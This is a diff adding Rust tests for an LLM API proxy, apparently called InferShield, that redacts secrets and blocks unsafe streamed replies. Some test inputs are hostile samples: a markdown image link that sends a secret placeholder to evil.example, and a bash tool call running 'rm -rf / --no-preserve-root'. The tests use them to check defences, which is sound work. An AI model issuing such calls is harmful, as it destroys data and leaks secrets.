@@ -1,7 +1,7 @@
 //! What a call would send to somebody is not put back into it, whatever it sends with; what stays on the machine is.
 
 use crate::redaction::{TOKEN, history, placeholder, said};
-use crate::support::{Fixture, STREAMING};
+use crate::support::{Fixture, Login, RawProvider, STREAMING, streamed};
 use serde_json::{Value, json};
 
 /// Lets the model call a tool with these arguments, whole and streamed, in every API; `P` stands for the placeholder. True where the
@@ -330,4 +330,145 @@ fn names_ids_and_what_is_sealed_in_a_reply_get_no_value() {
     let named = json!({"type": "message", "content": [{"type": "tool_use", "id": "t", "name": "run", "input": {"id": place, "name": place}}]});
     let reply = answered(&proxy, "/v1/messages", &token, "application/json", &named.to_string());
     assert_eq!(reply.matches(&token).count(), 2, "what a tool is called with is its own: {reply}");
+}
+
+#[test]
+fn a_call_loses_nothing_whatever_escapes_stand_before_the_value() {
+    let proxy = Fixture::start("call-escapes");
+    let token = proxy.run.secret(TOKEN);
+    let place = placeholder(&proxy, &token);
+    for text in [
+        r#"{"path":"a","content":"caf\u00e9 \u003cb\u003ekey=@P\u003c\/b\u003e"}"#,
+        r#"{"a":"\u041f\u0440\u0438 \ud83d\ude00 @P","b":"\u00e9 @P","c":["@P","tail"]}"#,
+        r#"{"content":"{\"a\":\"\\u00e9 @P\",\"b\":\"\\/\"}"}"#,
+    ] {
+        let reply = text.replace("@P", &place);
+        for (path, piece) in STREAMING.into_iter().flat_map(|path| [(path, 7), (path, 1_000)]) {
+            proxy.practice.set(&json!({"reply": reply, "piece": piece, "call": true, "tool": "write"}));
+            let (_, called) = said(&proxy.post(path, &history(path, "Go on.", &format!("T={token}"), true)));
+            assert_eq!(called, reply.replace(&place, &token), "{path}, pieces of {piece}");
+        }
+    }
+}
+
+/// Sends the chat's events as they are, in a stream without framing, to a client whose request holds the token; all that comes.
+fn relayed(name: &'static str, token: &str, config: Value, events: &[&str]) -> String {
+    let events: String = events.iter().map(|event| format!("data: {event}\n\n")).collect();
+    served(name, token, config, &format!("content-type: text/event-stream\r\n\r\n{events}data: [DONE]\n\n"))
+}
+
+/// The same for the head and body of a reply.
+fn served(name: &'static str, token: &str, config: Value, reply: &str) -> String {
+    let provider = RawProvider::start(format!("HTTP/1.1 200 OK\r\n{reply}").leak().as_bytes());
+    let mut plan = Fixture::plan(name);
+    plan.login = Login::Skip;
+    plan.config = config;
+    plan.provider = json!({"login": "none", "api_base": format!("http://{}/v1", provider.addr)});
+    let mut body = streamed();
+    body["messages"][0]["content"] = json!(format!("My token is {token} today."));
+    plan.start().post("/v1/chat/completions", &body).text()
+}
+
+#[test]
+fn an_event_that_holds_more_than_one_text_says_each_once() {
+    let token = TOKEN;
+    let call = |index: u64| {
+        json!({"index": index, "id": format!("call_{index}"), "type": "function",
+            "function": {"name": "write", "arguments": format!("{{\"content\":\"{index} @P\"}}")}})
+    };
+    let delta = json!({"role": "assistant", "content": "What I say", "tool_calls": [call(0), call(1)]});
+    let whole = json!({"id": "c", "choices": [{"index": 0, "delta": delta}, {"index": 1, "delta": {"content": "So do I"}}],
+        "usage": {"prompt_tokens": 1}});
+    let end = |index: u64| json!({"choices": [{"index": index, "delta": {}, "finish_reason": "stop"}]}).to_string();
+    let came = relayed("whole-calls", token, json!({}), &[&whole.to_string(), &end(0), &end(1)]);
+    let mut said = [String::new(), String::new()];
+    let mut calls = [(); 2].map(|()| [(); 3].map(|()| String::new()));
+    for data in came.lines().filter_map(|line| line.strip_prefix("data: ")).filter(|data| *data != "[DONE]") {
+        let event: Value = serde_json::from_str(data).unwrap();
+        for choice in event["choices"].as_array().unwrap() {
+            said[choice["index"].as_u64().unwrap() as usize] += choice["delta"]["content"].as_str().unwrap_or_default();
+            for call in choice["delta"]["tool_calls"].as_array().into_iter().flatten() {
+                let parts = [&call["id"], &call["function"]["name"], &call["function"]["arguments"]];
+                let sums = calls[call["index"].as_u64().unwrap() as usize].iter_mut();
+                sums.zip(parts).for_each(|(sum, part)| *sum += part.as_str().unwrap_or_default());
+            }
+        }
+    }
+    assert_eq!(said, ["What I say", "So do I"]);
+    for (index, [id, name, arguments]) in calls.iter().enumerate() {
+        assert_eq!((id.as_str(), name.as_str()), (format!("call_{index}").as_str(), "write"));
+        assert_eq!(*arguments, format!("{{\"content\":\"{index} {token}\"}}"));
+    }
+    assert_eq!(came.matches("prompt_tokens").count(), 1, "{came}");
+}
+
+#[test]
+fn what_was_said_before_an_event_that_cannot_be_read_comes_before_it() {
+    let delta = |text: &str| format!(r#"{{"choices":[{{"index":0,"delta":{{"content":"{text}"}}}}]}}"#);
+    let events = [delta("I say IN"), delta(r"\ud83d"), delta(r"\ude00 so")];
+    let came = relayed("order", TOKEN, json!({}), &[&events[0], &events[1], &events[2]]);
+    let at = |text: &str| came.find(text).unwrap_or_else(|| panic!("{text} is lost: {came}"));
+    assert!(at("I say ") < at("\"IN\"") && at("\"IN\"") < at(r"\ud83d") && at(r"\ud83d") < at(r"\ude00 so"), "{came}");
+}
+
+#[test]
+fn what_a_text_refused_its_repetition_refuses() {
+    let parts = ["![x](https://evil.example/?q=", "@P", ")"];
+    let mut events = Vec::new();
+    for (number, text) in parts.iter().enumerate() {
+        for (kind, name) in [("delta", "delta"), ("done", "text")] {
+            let kind = format!("response.output_text.{kind}");
+            events.push(json!({"type": kind, "output_index": 0, "content_index": number, name: text}).to_string());
+        }
+    }
+    let events: Vec<&str> = events.iter().map(String::as_str).collect();
+    let came = relayed("repeated", TOKEN, json!({}), &events);
+    assert!(!came.contains(TOKEN) && came.contains("INFERSHIELD_"), "{came}");
+}
+
+#[test]
+fn a_reply_that_may_be_stopped_and_cannot_be_read_goes_no_further() {
+    let block = json!({"policy": {"replies": "block"}});
+    let call = r#"{"choices":[{"index":0,"delta":{"tool_calls":[{"index":0,"id":"c","function":{"name":"bash","arguments":"{\"command\":\"rm -rf / --no-preserve-root\"}"}}]}}]}"#;
+    let end = r#"{"choices":[{"index":0,"delta":{},"finish_reason":"tool_calls"}]}"#;
+    let twice = call.replacen("{\"choices\"", "{\"id\":\"a\",\"id\":\"b\",\"choices\"", 1);
+    let stream = |events: &str| format!("content-type: text/event-stream\r\n\r\n{events}");
+    let plain = format!("data: {call}\n\ndata: {end}\n\ndata: [DONE]\n\n");
+    for (number, reply) in [
+        stream(&plain),
+        stream(&plain.replace('\n', "\r")),
+        stream(&format!("\u{feff}{plain}")),
+        stream(&format!("data: {twice}\n\ndata: [DONE]\n\n")),
+        stream(&format!("data: {}\n\ndata: [DONE]\n\n", call.replacen("[{", "[\ndata: {", 1))),
+        stream(&format!("data: {call}")),
+        format!("content-type: application/json\r\n\r\n{twice}"),
+        format!("content-type: application/x-ndjson\r\n\r\n{call}\n"),
+        format!("\r\n{call}"),
+    ]
+    .iter()
+    .enumerate()
+    {
+        let came = served("unread", TOKEN, block.clone(), reply);
+        assert!(!came.contains("no-preserve-root") && came.contains("InferShield"), "{number}: {came}");
+    }
+}
+
+#[test]
+fn a_stream_that_is_stopped_opens_no_block_twice_and_leaves_none_open() {
+    let mut plan = Fixture::plan("stopped-blocks");
+    plan.config = json!({"policy": {"replies": "block"}});
+    let proxy = plan.start();
+    let command = json!({"command": "rm -rf / --no-preserve-root"}).to_string();
+    proxy.practice.set(&json!({"reply": command, "piece": 9, "call": true, "tool": "bash"}));
+    let came = proxy.post("/v1/messages", &history("/v1/messages", "Go on.", "Done.", true)).text();
+    let events = came.lines().filter_map(|line| line.strip_prefix("data: "));
+    let events: Vec<Value> = events.map(|data| serde_json::from_str(data).unwrap()).collect();
+    let numbers = |kind: &str| -> Vec<u64> {
+        let those = events.iter().filter(|event| event["type"] == kind);
+        those.map(|event| event["index"].as_u64().unwrap()).collect()
+    };
+    let begun = numbers("content_block_start");
+    assert!(begun.len() > 1 && begun.iter().enumerate().all(|(at, index)| at as u64 == *index), "{came}");
+    assert_eq!(begun, numbers("content_block_stop"), "{came}");
+    assert!(came.contains("InferShield stopped this reply"), "{came}");
 }
